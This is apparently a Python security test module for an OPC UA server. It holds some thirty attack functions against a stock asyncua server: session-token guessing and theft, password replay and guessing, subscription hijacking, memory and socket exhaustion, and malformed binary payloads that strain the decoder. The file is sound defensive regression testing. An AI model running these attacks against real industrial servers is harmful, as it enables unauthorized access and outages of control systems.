"""Attacks: each returns whether it succeeded.  They succeed on a stock asyncua server, and must not on ours."""

from __future__ import annotations

import math
import socket
import struct
import threading
import time
from collections.abc import Callable
from contextlib import ExitStack, suppress
from typing import Any

from asyncua import ua
from asyncua.ua.ua_binary import struct_to_binary

from tests.protocols.opcua.opcua_wire import RSA_1_5, SLOW, Closed, Fault, Wire

PATIENCE = 1.0  # seconds for a server to close a connection; one that should has more
STATE = ua.NodeId(ua.ObjectIds.Server_ServerStatus_State)
SECRET = ua.NodeId("ada/secret", 2)


def succeeds(action: Callable[[], Any]) -> bool:
    try:
        action()
    except (Fault, Closed):
        return False
    return True


# --- the login


def guess_a_token(port: int, mode: str = "None_") -> bool:
    """Activate a victim's session by counting, be refused, and use it nevertheless."""
    with Wire(port, mode) as victim, Wire(port) as attacker:
        victim.log_in()
        attacker.open()
        start = victim.token.Identifier if isinstance(victim.token.Identifier, int) else 2_000
        for number in range(max(start - 10, 0), start + 10):
            attacker.token = ua.NodeId(number)
            succeeds(lambda: attacker.activate(ua.UserNameIdentityToken(UserName="ada", Password=b"wrong")))
            if succeeds(lambda: attacker.value(STATE)):
                return True
    return False


def use_a_stolen_token(port: int, mode: str = "None_") -> bool:
    """The same with a token that was overheard."""
    with Wire(port, mode) as victim, Wire(port) as attacker:
        victim.log_in()
        attacker.open().token = victim.token
        succeeds(lambda: attacker.activate(ua.UserNameIdentityToken(UserName="ada", Password=b"wrong")))
        return succeeds(lambda: attacker.value(STATE))


def guess_the_token_of_a_secured_session(port: int) -> bool:
    return guess_a_token(port, "SignAndEncrypt")


def use_the_stolen_token_of_a_secured_session(port: int) -> bool:
    return use_a_stolen_token(port, "SignAndEncrypt")


def log_in_in_the_clear(port: int, mode: str = "None_") -> bool:
    with Wire(port, mode) as client:
        client.open().create_session()
        token = ua.UserNameIdentityToken(PolicyId="username", UserName="ada", Password=b"right")
        return succeeds(lambda: client.activate(token))


def log_in_in_the_clear_where_nothing_is_encrypted(port: int) -> bool:
    """The channel is secured, but everybody can read what is signed."""
    return log_in_in_the_clear(port, "Sign")


def replay_a_password(port: int) -> bool:
    """Use what a victim encrypted for its own session in another one."""
    with Wire(port) as victim, Wire(port) as attacker:
        victim.open().create_session()
        overheard = victim.sealed("ada", "right")
        attacker.open().create_session()
        return succeeds(lambda: attacker.activate(overheard))


def replay_a_password_in_its_session(port: int) -> bool:
    """Use the same encrypted password for a second activation: its nonce has changed."""
    with Wire(port) as client:
        client.open().create_session()
        token = client.sealed("ada", "right")
        client.activate(token)
        return succeeds(lambda: client.activate(token))


def encrypt_with_rsa_1_5(port: int) -> bool:
    with Wire(port) as client:
        client.open().create_session()
        return succeeds(lambda: client.activate(client.sealed("ada", "right", algorithm=RSA_1_5)))


def guess_on_one_connection(port: int) -> bool:
    """Try one password after the other."""
    with Wire(port) as client:
        client.open().create_session()
        for password in ("1234", "admin", "right"):
            with suppress(Fault, Closed):
                client.activate(client.sealed("ada", password))
                return True
    return False


def stall_everybody_with_a_slow_login(port: int) -> bool:
    """Have the server look at a login for long; tell whether a bystander is not answered before that is over."""
    with Wire(port) as bystander, Wire(port) as slow:
        bystander.log_in("bob")
        slow.open().create_session()
        token = slow.sealed(SLOW, "right")
        login = threading.Thread(target=succeeds, args=[lambda: slow.activate(token)])
        login.start()
        time.sleep(0.2)  # until its password is looked at
        bystander.value(STATE)
        login.join(0.5)
        is_over = not login.is_alive()
        slow.leave()
        login.join(10)
    return is_over


def come_in_as_nobody(port: int) -> bool:
    with Wire(port) as client:
        client.open().create_session()
        return succeeds(lambda: client.activate(ua.AnonymousIdentityToken(PolicyId="anonymous")))


def become_admin(port: int) -> bool:
    """Log in as "admin" with any password, and add a node."""
    with Wire(port) as client:
        client.open().create_session()
        request = ua.AddNodesRequest()
        item = ua.AddNodesItem(ParentNodeId=ua.NodeId(ua.ObjectIds.ObjectsFolder), NodeClass=ua.NodeClass.Object)
        item.ReferenceTypeId, item.BrowseName = ua.NodeId(ua.ObjectIds.Organizes), ua.QualifiedName("mine", 2)
        item.RequestedNewNodeId, item.NodeAttributes = ua.NodeId("mine", 2), ua.ObjectAttributes()
        request.Parameters.NodesToAdd = [item]
        try:
            client.activate(client.sealed("admin", "whatever"))
            return bool(client.ask(request).Results[0].StatusCode.is_good())
        except (Fault, Closed):
            return False


def write_what_is_not_ones_own(port: int) -> bool:
    with Wire(port) as client:
        client.log_in("bob")
        return bool(client.write(SECRET, 666).is_good())


# --- sessions and subscriptions


def outlive_the_connection(port: int) -> bool:
    """Be killed while a subscription runs; tell whether the session is still there for who has its token."""
    with Wire(port) as attacker:
        victim = Wire(port).log_in()
        victim.subscribe()
        victim.reset()
        time.sleep(0.2)
        attacker.open().token = victim.token
        attacker.session = victim.session
        return succeeds(lambda: attacker.activate(attacker.sealed("ada", "right", victim.session.ServerNonce)))


def stay_connected_after_the_session_has_timed_out(port: int) -> bool:
    with Wire(port) as client:
        client.log_in(timeout=100)
        return not client.is_closed(PATIENCE)


def never_time_out(port: int) -> bool:
    """Ask for a session timeout that is not a number."""
    with Wire(port) as client:
        client.open().create_session(timeout=math.nan)
        return math.isnan(client.session.RevisedSessionTimeout)


def pile_up_sessions(port: int) -> bool:
    with Wire(port) as client:
        client.open()
        return all(succeeds(client.create_session) for _ in range(50))


def take_all_subscriptions(port: int) -> bool:
    """Take as many as there are; tell whether another one is left without."""
    with Wire(port) as greedy, Wire(port) as bystander:
        greedy.log_in()
        bystander.log_in("bob")
        while succeeds(lambda: greedy.subscribe(60_000)):
            pass
        return not succeeds(bystander.subscribe)


def delete_the_subscription_of_another(port: int) -> bool:
    with Wire(port) as victim, Wire(port) as attacker:
        victim.log_in()
        attacker.log_in("bob")
        request = ua.DeleteSubscriptionsRequest()
        request.Parameters.SubscriptionIds = [victim.subscribe().SubscriptionId]
        return bool(attacker.ask(request).Results[0].is_good())


def take_over_the_subscription_of_another(port: int) -> bool:
    """Have what a victim monitors delivered to oneself."""
    with Wire(port) as victim, Wire(port) as attacker:
        victim.log_in()
        attacker.log_in("bob")
        request = ua.TransferSubscriptionsRequest()
        request.Parameters.SubscriptionIds = [victim.subscribe().SubscriptionId]
        return bool(attacker.ask(request).Parameters.Results[0].StatusCode.is_good())


def monitor_in_the_subscription_of_another(port: int) -> bool:
    with Wire(port) as victim, Wire(port) as attacker:
        victim.log_in()
        attacker.log_in("bob")
        number = victim.subscribe().SubscriptionId
        return succeeds(lambda: attacker.monitor(number, STATE))


def publish_without_rest(port: int) -> bool:
    """Ask for a publishing interval of a tenth of a microsecond."""
    with Wire(port) as client:
        client.log_in()
        return client.subscribe(0.0001).RevisedPublishingInterval < 1


def queue_without_end(port: int) -> bool:
    """Change a monitored item to a queue of any length."""
    with Wire(port) as client:
        client.log_in()
        number = client.subscribe(60_000).SubscriptionId
        (item,) = client.monitor(number, STATE)
        request = ua.ModifyMonitoredItemsRequest()
        request.Parameters.SubscriptionId = number
        change = ua.MonitoredItemModifyRequest(MonitoredItemId=item.MonitoredItemId)
        change.RequestedParameters.QueueSize = 2_000_000_000
        request.Parameters.ItemsToModify = [change]
        return client.ask(request).Results[0].RevisedQueueSize > 10_000


def register_a_server(port: int) -> bool:
    """Have clients be sent to a server of one's own, without a login."""
    with Wire(port) as client:
        client.open()
        request = ua.RegisterServerRequest()
        request.Server.ServerUri, request.Server.ServerNames = "urn:evil", [ua.LocalizedText("evil")]
        return succeeds(lambda: client.ask(request))


# --- bytes


def fill_memory_before_the_login(port: int) -> bool:
    """Announce a frame of 100 MB and send 60 of them."""
    with Wire(port) as client:
        client.hello()
        head = struct.pack("<4sII", b"MSGF", 100_000_000, 0)
        return succeeds(lambda: [client.send(data) for data in [head, *[bytes(1_000_000)] * 60]])


def announce_two_gigabytes(port: int) -> bool:
    with Wire(port) as client:
        client.hello()
        client.send(struct.pack("<4sII", b"MSGF", 2_147_483_647, 0))
        return not client.is_closed(PATIENCE)


def lock_out_with_silent_sockets(port: int) -> bool:
    """Open 1,100 sockets that say nothing; tell whether a good client is kept out."""
    with ExitStack() as stack:
        for _ in range(1_100):
            stack.enter_context(socket.create_connection(("127.0.0.1", port), 10))
        client = stack.enter_context(Wire(port))
        return not succeeds(client.log_in)


def ask_before_opening_a_channel(port: int) -> bool:
    with Wire(port) as client:
        client.hello()
        return succeeds(lambda: client.ask(ua.GetEndpointsRequest()))


def state_millions_of_nulls(port: int) -> bool:
    """Have five million elements decoded that take no bytes."""
    return _is_decoded(port, _literal(b"\x80" + struct.pack("<i", 5_000_000)))


def state_negative_lengths(port: int) -> bool:
    """Have an element of negative length read again and again."""
    return _is_decoded(port, _literal(b"\x8f" + struct.pack("<ii", 1_000_000, -4)))


def state_huge_dimensions(port: int) -> bool:
    """Have an empty array filled up with a million lists."""
    return _is_decoded(port, _literal(b"\xc6" + struct.pack("<iii", 0, 1, 1_000_000)))


def have_the_answer_cut_into_bytes(port: int) -> bool:
    """State a buffer of 60 bytes, so that each answer becomes thousands of chunks."""
    with Wire(port) as client:
        return succeeds(lambda: client.hello(ReceiveBufferSize=60))


def _literal(variant: bytes) -> bytes:
    """Return an ExtensionObject with a LiteralOperand, which holds a Variant."""
    type_id = struct.pack("<BBH", 1, 0, ua.ObjectIds.LiteralOperand_Encoding_DefaultBinary)
    return type_id + b"\x01" + struct.pack("<i", len(variant)) + variant


def _is_decoded(port: int, extension: bytes) -> bool:
    """Put an ExtensionObject into the header of a request that needs no login."""
    with Wire(port) as client:
        client.open()
        body = struct_to_binary(ua.GetEndpointsRequest())
        header = struct_to_binary(ua.GetEndpointsRequest().RequestHeader)
        at = body.index(header[:2], 4) + len(header)
        assert body[at - 3 : at] == b"\0\0\0", "the header ends with an empty ExtensionObject"
        client.send(client.framed(body[: at - 3] + extension + body[at:]))
        return succeeds(lambda: client.answer(ua.GetEndpointsRequest))


ATTACKS = [
    guess_a_token,
    guess_the_token_of_a_secured_session,
    use_a_stolen_token,
    use_the_stolen_token_of_a_secured_session,
    log_in_in_the_clear,
    log_in_in_the_clear_where_nothing_is_encrypted,
    replay_a_password,
    replay_a_password_in_its_session,
    encrypt_with_rsa_1_5,
    guess_on_one_connection,
    stall_everybody_with_a_slow_login,
    write_what_is_not_ones_own,
    outlive_the_connection,
    stay_connected_after_the_session_has_timed_out,
    never_time_out,
    pile_up_sessions,
    take_all_subscriptions,
    delete_the_subscription_of_another,
    take_over_the_subscription_of_another,
    monitor_in_the_subscription_of_another,
    publish_without_rest,
    queue_without_end,
    register_a_server,
    fill_memory_before_the_login,
    announce_two_gigabytes,
    lock_out_with_silent_sockets,
    ask_before_opening_a_channel,
    state_millions_of_nulls,
    state_negative_lengths,
    state_huge_dimensions,
    have_the_answer_cut_into_bytes,
]
OPEN_ATTACKS = [come_in_as_nobody, become_admin]  # on a server as asyncua comes
HARMFUL = {
    take_all_subscriptions,
    lock_out_with_silent_sockets,
    state_millions_of_nulls,
}  # to the server they are tried on
